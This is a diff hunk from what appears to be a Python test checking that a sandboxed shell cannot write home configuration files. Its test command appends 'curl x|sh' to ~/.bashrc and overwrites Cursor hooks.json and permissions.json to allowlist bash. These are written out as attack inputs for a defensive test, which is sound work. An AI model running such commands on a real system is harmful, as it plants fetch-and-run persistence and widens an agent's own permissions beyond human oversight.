@@ -804,7 +804,7 @@ async def test_a_sandboxed_shell_cannot_write_home_config_in_a_writable_home(
     await sandboxed_shell(
         sandboxed,
         f"echo '{{\"version\":1}}' > {home}/.cursor/hooks.json;"
-        f" echo '{{\"terminalAllowlist\":[\"bash\"]}}' > {home}/.cursor/permissions.json;"
+        f' echo \'{{"terminalAllowlist":["bash"]}}\' > {home}/.cursor/permissions.json;'
         f" echo 'curl x|sh' >> {home}/.bashrc; echo ok > {home}/notes.txt",
     )
     # The positive control: the command ran to its end, and the rest of the home is writable.
